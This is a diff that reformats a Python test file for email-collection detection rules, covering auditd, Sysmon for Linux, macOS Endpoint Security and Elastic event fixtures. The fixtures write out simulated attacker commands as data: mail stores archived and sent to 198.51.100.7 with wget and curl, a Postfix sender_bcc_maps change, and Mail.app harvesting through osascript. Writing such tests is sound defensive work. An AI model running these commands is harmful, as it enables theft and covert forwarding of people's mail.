@@ -20,7 +20,10 @@ GS = "\x1d"
 
 def _hits(pack, target, path):
     names = {r.id: r.name for r in pack.rules}
-    return sorted((names[h["rule_id"]], tuple(h["event_indices"])) for h in scan(pack, all_targets()[target], [path]))
+    return sorted(
+        (names[h["rule_id"]], tuple(h["event_indices"]))
+        for h in scan(pack, all_targets()[target], [path])
+    )
 
 
 # --- native: a raw audit.log, and Sysmon for Linux / Endpoint Security JSON Lines -----------------
@@ -31,7 +34,7 @@ def _syscall(node, ts, serial, exe, comm, key, auid, name, uid=None):
     keyv = f'"{key}"' if key else "(null)"
     return (
         f"node={node} type=SYSCALL msg=audit({ts}:{serial}): arch=c000003e syscall=257 success=yes exit=3 "
-        f'a0=ffffff9c a1=7ffe01b0 a2=0 a3=0 items=1 ppid=3100 pid=3{serial} auid={auid} uid={uid} tty=pts1 ses=9 '
+        f"a0=ffffff9c a1=7ffe01b0 a2=0 a3=0 items=1 ppid=3100 pid=3{serial} auid={auid} uid={uid} tty=pts1 ses=9 "
         f'comm="{comm}" exe="{exe}" key={keyv}{GS}ARCH=x86_64 SYSCALL=openat AUID="{name}" UID="{name}"'
     )
 
@@ -42,23 +45,59 @@ def _path(node, ts, serial, name):
 
 AUDIT_LOG = [
     # 0 Postfix's local agent appends to carol's spool: mail software
-    _syscall("mx02", "1732186800.101", 8101, "/usr/libexec/postfix/local", "local", "t1114_mail_store", 4294967295, "unset", 0),
+    _syscall(
+        "mx02",
+        "1732186800.101",
+        8101,
+        "/usr/libexec/postfix/local",
+        "local",
+        "t1114_mail_store",
+        4294967295,
+        "unset",
+        0,
+    ),
     _path("mx02", "1732186800.101", 8101, "/var/mail/carol"),
     # 1 rsync run by the ops account reads the virtual mail root; its records interleave with event 2
-    _syscall("mx02", "1732186805.377", 8102, "/usr/bin/rsync", "rsync", "t1114_mail_store", 1010, "ops"),
+    _syscall(
+        "mx02", "1732186805.377", 8102, "/usr/bin/rsync", "rsync", "t1114_mail_store", 1010, "ops"
+    ),
     # 2 Dovecot's imap process serves the same mailbox to carol's client
-    _syscall("mx02", "1732186805.390", 8103, "/usr/libexec/dovecot/imap", "imap", "t1114_mail_store", 4294967295, "unset", 1003),
-    _path("mx02", "1732186805.377", 8102, "/var/vmail/corp.example/carol/Maildir/cur/1732180000.M1P9.mx02:2,S"),
-    _path("mx02", "1732186805.390", 8103, "/var/vmail/corp.example/carol/Maildir/cur/1732180000.M1P9.mx02:2,S"),
-    f"node=mx02 type=EOE msg=audit(1732186805.377:8102):",
+    _syscall(
+        "mx02",
+        "1732186805.390",
+        8103,
+        "/usr/libexec/dovecot/imap",
+        "imap",
+        "t1114_mail_store",
+        4294967295,
+        "unset",
+        1003,
+    ),
+    _path(
+        "mx02",
+        "1732186805.377",
+        8102,
+        "/var/vmail/corp.example/carol/Maildir/cur/1732180000.M1P9.mx02:2,S",
+    ),
+    _path(
+        "mx02",
+        "1732186805.390",
+        8103,
+        "/var/vmail/corp.example/carol/Maildir/cur/1732180000.M1P9.mx02:2,S",
+    ),
+    "node=mx02 type=EOE msg=audit(1732186805.377:8102):",
     # 3 less pages carol's saved mail folder (name hex-encoded: it holds a space)
-    _syscall("mx02", "1732186850.004", 8104, "/usr/bin/less", "less", "t1114_mail_store", 1010, "ops"),
+    _syscall(
+        "mx02", "1732186850.004", 8104, "/usr/bin/less", "less", "t1114_mail_store", 1010, "ops"
+    ),
     "node=mx02 type=PATH msg=audit(1732186850.004:8104): item=0 name=2F686F6D652F6361726F6C2F6D61696C2F73656E74206D61696C nametype=NORMAL",
     # 4 an ssh login: a user-space record, no watch key
     "node=mx02 type=USER_LOGIN msg=audit(1732186700.000:8100): pid=2990 uid=0 auid=1010 ses=9 "
     "msg='op=login id=1010 exe=\"/usr/sbin/sshd\" hostname=10.0.4.20 addr=10.0.4.20 terminal=/dev/pts/1 res=success'",
     # 5 vim writes Postfix's main.cf: another watch's key
-    _syscall("mx02", "1732186900.250", 8105, "/usr/bin/vim.basic", "vim", "postfix_conf", 0, "root"),
+    _syscall(
+        "mx02", "1732186900.250", 8105, "/usr/bin/vim.basic", "vim", "postfix_conf", 0, "root"
+    ),
     _path("mx02", "1732186900.250", 8105, "/etc/postfix/main.cf"),
 ]
 
@@ -75,7 +114,18 @@ def _sysmon(eid, ts, host, user, data):
 
 
 def _lproc(ts, image, cmd, cwd="/home/ops", user="ops", host="mx02.corp.example"):
-    return _sysmon(1, ts, host, user, {"Image": image, "CommandLine": cmd, "CurrentDirectory": cwd, "ParentImage": "/usr/bin/bash"})
+    return _sysmon(
+        1,
+        ts,
+        host,
+        user,
+        {
+            "Image": image,
+            "CommandLine": cmd,
+            "CurrentDirectory": cwd,
+            "ParentImage": "/usr/bin/bash",
+        },
+    )
 
 
 def _lfile(ts, image, path, user="ops", host="mx02.corp.example"):
@@ -88,7 +138,9 @@ def _exec(ts, image, args, cwd="/Users/klee", host="MBP-KLEE", parent="/bin/zsh"
         "time": ts,
         "host": {"hostname": host},
         "process": {"executable": {"path": parent}},
-        "event": {"exec": {"args": args, "cwd": {"path": cwd}, "target": {"executable": {"path": image}}}},
+        "event": {
+            "exec": {"args": args, "cwd": {"path": cwd}, "target": {"executable": {"path": image}}}
+        },
     }
 
 
@@ -96,39 +148,116 @@ def _es_file(ts, image, kind, path, source=None):
     if kind == "write":
         event, number = {"write": {"target": {"path": path}}}, 33
     else:
-        event, number = {"rename": {"source": {"path": source}, "destination_type": 0, "destination": {"existing_file": {"path": path}}}}, 25
-    return {"event_type": number, "time": ts, "process": {"executable": {"path": image}}, "event": event}
+        event, number = (
+            {
+                "rename": {
+                    "source": {"path": source},
+                    "destination_type": 0,
+                    "destination": {"existing_file": {"path": path}},
+                }
+            },
+            25,
+        )
+    return {
+        "event_type": number,
+        "time": ts,
+        "process": {"executable": {"path": image}},
+        "event": event,
+    }
 
 
 MAIL = "/Users/klee/Library/Mail/V10"
 JSONL = [
     _lproc("2026-11-21T11:00:00Z", "/usr/bin/id", "id"),  # 0
-    _lproc("2026-11-21T11:00:20Z", "/usr/bin/find", "find /home -maxdepth 3 -iname maildir"),  # 1 harvest
-    _lproc("2026-11-21T11:01:05Z", "/usr/bin/7z", "7z a -pS3cret /tmp/.sys/c.7z /home/carol/mail/"),  # 2 mail store
+    _lproc(
+        "2026-11-21T11:00:20Z", "/usr/bin/find", "find /home -maxdepth 3 -iname maildir"
+    ),  # 1 harvest
+    _lproc(
+        "2026-11-21T11:01:05Z", "/usr/bin/7z", "7z a -pS3cret /tmp/.sys/c.7z /home/carol/mail/"
+    ),  # 2 mail store
     _lproc("2026-11-21T11:01:40Z", "/usr/bin/ls", "ls -la /tmp/.sys"),  # 3
-    _lproc("2026-11-21T11:05:12Z", "/usr/bin/wget", "wget -q --post-file=/tmp/.sys/c.7z http://198.51.100.7/u"),  # 4 exfil
-    _lproc("2026-11-21T11:06:00Z", "/usr/bin/mutt", "mutt -f /var/mail/carol", user="carol", cwd="/home/carol"),  # 5 mail client
-    _lproc("2026-11-21T11:07:00Z", "/usr/bin/curl", "curl -fsS -o /tmp/pkg.deb https://pkg.example/x.deb"),  # 6 download
+    _lproc(
+        "2026-11-21T11:05:12Z",
+        "/usr/bin/wget",
+        "wget -q --post-file=/tmp/.sys/c.7z http://198.51.100.7/u",
+    ),  # 4 exfil
+    _lproc(
+        "2026-11-21T11:06:00Z",
+        "/usr/bin/mutt",
+        "mutt -f /var/mail/carol",
+        user="carol",
+        cwd="/home/carol",
+    ),  # 5 mail client
+    _lproc(
+        "2026-11-21T11:07:00Z",
+        "/usr/bin/curl",
+        "curl -fsS -o /tmp/pkg.deb https://pkg.example/x.deb",
+    ),  # 6 download
     _lfile("2026-11-21T11:08:00Z", "/usr/bin/python3", "/home/carol/.forward"),  # 7 .forward
     _lfile("2026-11-21T11:08:30Z", "/usr/bin/bash", "/home/carol/.bash_history", user="carol"),  # 8
-    _lproc("2026-11-21T11:09:00Z", "/usr/sbin/postconf", "postconf -n", user="root", cwd="/root"),  # 9
-    _lproc("2026-11-21T11:09:30Z", "/usr/sbin/postconf", "postconf -e sender_bcc_maps = hash:/etc/postfix/sbcc", user="root", cwd="/root"),  # 10
-    _exec("2026-11-21T12:00:00Z", "/usr/bin/osascript", ["osascript", "-e", 'display notification "done"']),  # 11
-    _exec("2026-11-21T12:00:30Z", "/usr/bin/osascript", ["osascript", "-e", 'tell application "Mail" to quit']),  # 12
+    _lproc(
+        "2026-11-21T11:09:00Z", "/usr/sbin/postconf", "postconf -n", user="root", cwd="/root"
+    ),  # 9
+    _lproc(
+        "2026-11-21T11:09:30Z",
+        "/usr/sbin/postconf",
+        "postconf -e sender_bcc_maps = hash:/etc/postfix/sbcc",
+        user="root",
+        cwd="/root",
+    ),  # 10
+    _exec(
+        "2026-11-21T12:00:00Z",
+        "/usr/bin/osascript",
+        ["osascript", "-e", 'display notification "done"'],
+    ),  # 11
+    _exec(
+        "2026-11-21T12:00:30Z",
+        "/usr/bin/osascript",
+        ["osascript", "-e", 'tell application "Mail" to quit'],
+    ),  # 12
     _exec(
         "2026-11-21T12:01:00Z",
         "/usr/bin/osascript",
-        ["osascript", "-e", 'tell application "Mail" to set s to source of every message of mailbox "Sent Messages" of account 1'],
+        [
+            "osascript",
+            "-e",
+            'tell application "Mail" to set s to source of every message of mailbox "Sent Messages" of account 1',
+        ],
     ),  # 13 automation
-    _exec("2026-11-21T12:03:00Z", "/usr/bin/zip", ["zip", "-r", "-q", "/Users/Shared/.cache.zip", MAIL]),  # 14 store copy
+    _exec(
+        "2026-11-21T12:03:00Z",
+        "/usr/bin/zip",
+        ["zip", "-r", "-q", "/Users/Shared/.cache.zip", MAIL],
+    ),  # 14 store copy
     _es_file("2026-11-21T12:03:01Z", "/usr/bin/zip", "write", "/Users/Shared/.cache.zip"),  # 15
-    _es_file("2026-11-21T12:04:00Z", "/bin/cp", "write", "/Users/Shared/.c/77120.emlx"),  # 16 message copy
-    _es_file("2026-11-21T12:05:00Z", "/System/Applications/Mail.app/Contents/MacOS/Mail", "write", f"{MAIL}/MailData/SyncedRules.plist"),  # 17
-    _es_file("2026-11-21T12:06:00Z", "/usr/bin/osascript", "rename", f"{MAIL}/MailData/UnsyncedRules.plist", f"{MAIL}/MailData/.u.tmp"),  # 18
+    _es_file(
+        "2026-11-21T12:04:00Z", "/bin/cp", "write", "/Users/Shared/.c/77120.emlx"
+    ),  # 16 message copy
+    _es_file(
+        "2026-11-21T12:05:00Z",
+        "/System/Applications/Mail.app/Contents/MacOS/Mail",
+        "write",
+        f"{MAIL}/MailData/SyncedRules.plist",
+    ),  # 17
+    _es_file(
+        "2026-11-21T12:06:00Z",
+        "/usr/bin/osascript",
+        "rename",
+        f"{MAIL}/MailData/UnsyncedRules.plist",
+        f"{MAIL}/MailData/.u.tmp",
+    ),  # 18
     _exec(
         "2026-11-21T12:07:00Z",
         "/System/Library/Frameworks/CoreServices.framework/Frameworks/Metadata.framework/Versions/A/Support/mdworker_shared",
-        ["mdworker_shared", "-s", "mdworker", "-c", "MDSImporterWorker", "-m", "com.apple.mdworker.shared"],
+        [
+            "mdworker_shared",
+            "-s",
+            "mdworker",
+            "-c",
+            "MDSImporterWorker",
+            "-m",
+            "com.apple.mdworker.shared",
+        ],
         cwd="/",
         parent="/sbin/launchd",
     ),  # 19
@@ -180,7 +309,12 @@ def test_native_mixed_linux_and_macos_stream(pack, tmp_path):
 def _record(line, host="mx02"):
     body = line.split(" ", 1)[1]  # drop node=
     kind, rest = body.split(" ", 1)
-    fields = {"_time": "2026-11-21T11:00:05Z", "host": host, "sourcetype": "linux:audit", "type": kind.split("=")[1]}
+    fields = {
+        "_time": "2026-11-21T11:00:05Z",
+        "host": host,
+        "sourcetype": "linux:audit",
+        "type": kind.split("=")[1],
+    }
     for part in rest.replace(GS, " ").split(" ")[1:]:
         if "=" in part:
             k, v = part.split("=", 1)
@@ -210,7 +344,12 @@ def _defend_proc(ts, os_type, host, user, image, args, cwd):
         # host.name and host.hostname both, as Defend records them (endpoint sample event)
         "host": {"name": host, "hostname": host, "os": {"type": os_type}},
         "user": {"name": user},
-        "process": {"executable": image, "command_line": " ".join(args), "args": args, "working_directory": cwd},
+        "process": {
+            "executable": image,
+            "command_line": " ".join(args),
+            "args": args,
+            "working_directory": cwd,
+        },
     }
 
 
@@ -226,22 +365,84 @@ def _auditbeat(ts, exe, key, path):
 
 
 ELASTIC = [
-    _auditbeat("2026-11-21T11:00:00Z", "/usr/libexec/postfix/local", "t1114_mail_store", "/var/mail/carol"),  # 0
-    _auditbeat("2026-11-21T11:00:05Z", "/usr/bin/rsync", "t1114_mail_store", "/var/vmail/corp.example/carol/Maildir"),  # 1
-    _defend_proc("2026-11-21T11:01:00Z", "linux", "mx02", "ops", "/usr/bin/tar", ["tar", "cf", "/tmp/.s.tar", "/var/spool/mail"], "/home/ops"),  # 2
-    _defend_proc("2026-11-21T11:02:00Z", "linux", "mx02", "ops", "/usr/bin/curl", ["curl", "-fsSL", "https://pkg.example/key.gpg"], "/home/ops"),  # 3
-    _defend_proc("2026-11-21T11:04:00Z", "linux", "mx02", "ops", "/usr/bin/curl", ["curl", "--data-binary", "@/tmp/.s.tar", "https://198.51.100.7/u"], "/home/ops"),  # 4
+    _auditbeat(
+        "2026-11-21T11:00:00Z", "/usr/libexec/postfix/local", "t1114_mail_store", "/var/mail/carol"
+    ),  # 0
+    _auditbeat(
+        "2026-11-21T11:00:05Z",
+        "/usr/bin/rsync",
+        "t1114_mail_store",
+        "/var/vmail/corp.example/carol/Maildir",
+    ),  # 1
+    _defend_proc(
+        "2026-11-21T11:01:00Z",
+        "linux",
+        "mx02",
+        "ops",
+        "/usr/bin/tar",
+        ["tar", "cf", "/tmp/.s.tar", "/var/spool/mail"],
+        "/home/ops",
+    ),  # 2
+    _defend_proc(
+        "2026-11-21T11:02:00Z",
+        "linux",
+        "mx02",
+        "ops",
+        "/usr/bin/curl",
+        ["curl", "-fsSL", "https://pkg.example/key.gpg"],
+        "/home/ops",
+    ),  # 3
+    _defend_proc(
+        "2026-11-21T11:04:00Z",
+        "linux",
+        "mx02",
+        "ops",
+        "/usr/bin/curl",
+        ["curl", "--data-binary", "@/tmp/.s.tar", "https://198.51.100.7/u"],
+        "/home/ops",
+    ),  # 4
     # the same tar command on a Mac: another platform's process source
-    _defend_proc("2026-11-21T11:05:00Z", "macos", "MBP-KLEE", "klee", "/usr/bin/tar", ["tar", "cf", "/tmp/.s.tar", "/var/spool/mail"], "/Users/klee"),  # 5
-    _defend_proc("2026-11-21T12:00:00Z", "macos", "MBP-KLEE", "klee", "/usr/bin/osascript",
-                 ["osascript", "-l", "JavaScript", "-e", 'Application("Mail").accounts().map(a => a.emailAddresses())'], "/Users/klee"),  # 6
-    _defend_proc("2026-11-21T12:02:00Z", "macos", "MBP-KLEE", "klee", "/usr/bin/ditto", ["ditto", MAIL, "/private/var/tmp/.m"], "/Users/klee"),  # 7
+    _defend_proc(
+        "2026-11-21T11:05:00Z",
+        "macos",
+        "MBP-KLEE",
+        "klee",
+        "/usr/bin/tar",
+        ["tar", "cf", "/tmp/.s.tar", "/var/spool/mail"],
+        "/Users/klee",
+    ),  # 5
+    _defend_proc(
+        "2026-11-21T12:00:00Z",
+        "macos",
+        "MBP-KLEE",
+        "klee",
+        "/usr/bin/osascript",
+        [
+            "osascript",
+            "-l",
+            "JavaScript",
+            "-e",
+            'Application("Mail").accounts().map(a => a.emailAddresses())',
+        ],
+        "/Users/klee",
+    ),  # 6
+    _defend_proc(
+        "2026-11-21T12:02:00Z",
+        "macos",
+        "MBP-KLEE",
+        "klee",
+        "/usr/bin/ditto",
+        ["ditto", MAIL, "/private/var/tmp/.m"],
+        "/Users/klee",
+    ),  # 7
 ]
 
 
 def test_elastic_hits_export(pack, tmp_path):
     path = tmp_path / "hits.json"
-    path.write_text(json.dumps({"hits": {"hits": [{"_index": ".ds-logs", "_source": d} for d in ELASTIC]}}))
+    path.write_text(
+        json.dumps({"hits": {"hits": [{"_index": ".ds-logs", "_source": d} for d in ELASTIC]}})
+    )
     assert _hits(pack, "elastic", path) == sorted(
         [
             ("lnx_auditd_mail_store_read_by_non_mail_program", (1,)),
